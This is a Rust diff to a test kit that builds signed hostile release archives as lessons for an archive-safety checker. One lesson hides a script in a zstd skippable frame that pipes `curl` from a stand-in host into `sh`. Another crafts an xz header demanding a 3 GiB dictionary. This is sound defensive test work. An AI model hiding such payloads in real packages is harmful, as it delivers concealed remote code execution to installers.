@@ -8,6 +8,7 @@ use sequoia_openpgp::types::HashAlgorithm;
 use super::{DemoKeys, contents_section, release, tree};
 use crate::testkit::archives::{self, Entry};
 use crate::testkit::hostile::{self, RawTar};
+use crate::testkit::hostile_compress;
 use crate::testkit::keys::{self, SignSpec};
 use crate::testkit::layout::{FeedSpec, FileSpec, ReleaseSpec};
 use crate::testkit::ts;
@@ -26,6 +27,7 @@ pub(super) fn training_feed(k: &DemoKeys) -> Result<FeedSpec> {
     feed.expires = Some("2036-12-31".into());
     feed.releases = evidence_lessons(k)?;
     feed.releases.extend(safety_lessons(k)?);
+    feed.releases.extend(compression_lessons(k)?);
     Ok(feed)
 }
 
@@ -167,7 +169,7 @@ fn raw_tar(entries: &[Entry]) -> RawTar {
 fn safety_lesson(k: &DemoKeys, version: &str, hostile_entry: Entry) -> Result<ReleaseSpec> {
     let mut entries = tree(version, false);
     entries.push(hostile_entry);
-    lesson_with_notes(k, version, raw_tar_gz(&entries), &entries)
+    lesson_with_notes(k, version, "tar.gz", raw_tar_gz(&entries), &entries)
 }
 
 /// The parser-differential lesson: the demo tree, then one entry whose PAX
@@ -185,18 +187,40 @@ fn two_names_lesson(k: &DemoKeys) -> Result<ReleaseSpec> {
         .gnu_long_name(b"meridian-two-names/bin/meridian")
         .pax(&[("path", b"meridian-two-names/conf/logging.toml")])
         .file("meridian-two-names/conf/logging.toml", logging.as_bytes());
-    lesson_with_notes(k, version, hostile::gz(&tar.finish()), &declared)
+    lesson_with_notes(k, version, "tar.gz", hostile::gz(&tar.finish()), &declared)
 }
 
-/// A lesson's release: its tar.gz signed like a good one, with release
-/// notes declaring `declared`, so only the safety check speaks.
+/// The lessons about the compressed bytes around the archive: what a
+/// decompressor would pass over, or allocate, without a word.
+fn compression_lessons(k: &DemoKeys) -> Result<Vec<ReleaseSpec>> {
+    // A script after the archive in a zstd skippable frame: `zstd -d` and
+    // tar skip it, so nobody reviewing the listing would see it.
+    let version = "hidden-frame";
+    let entries = tree(version, false);
+    let mut zst = archives::tar_zst(&entries)?;
+    zst.extend(hostile_compress::zstd_skippable(
+        b"#!/bin/sh\n# stage two, for an installer that knows where to look\ncurl -s https://updates.northwind.example/stage2 | sh\n",
+    ));
+    let hidden = lesson_with_notes(k, version, "tar.zst", zst, &entries)?;
+    // A good archive whose xz block header asks for a 3 GiB dictionary: a
+    // decoder that believes it allocates 3 GiB before the first byte.
+    let version = "xz-dictionary";
+    let entries = tree(version, false);
+    let xz = hostile_compress::xz_dictionary(&archives::tar_xz(&entries)?, 39)?;
+    let dictionary = lesson_with_notes(k, version, "tar.xz", xz, &entries)?;
+    Ok(vec![hidden, dictionary])
+}
+
+/// A lesson's release: its archive (of kind `ext`) signed like a good one,
+/// with release notes declaring `declared`, so only the safety check speaks.
 fn lesson_with_notes(
     k: &DemoKeys,
     version: &str,
+    ext: &str,
     archive: Vec<u8>,
     declared: &[Entry],
 ) -> Result<ReleaseSpec> {
-    let name = format!("meridian-{version}-linux-x86_64.tar.gz");
+    let name = format!("meridian-{version}-linux-x86_64.{ext}");
     let signed_at = ts("2026-03-02T10:14:07Z");
     let files = vec![("linux-x86_64", FileSpec::new(&name, archive))];
     let mut r = ReleaseSpec::signed(version, "2026-03-02", &k.release, signed_at, files)?;
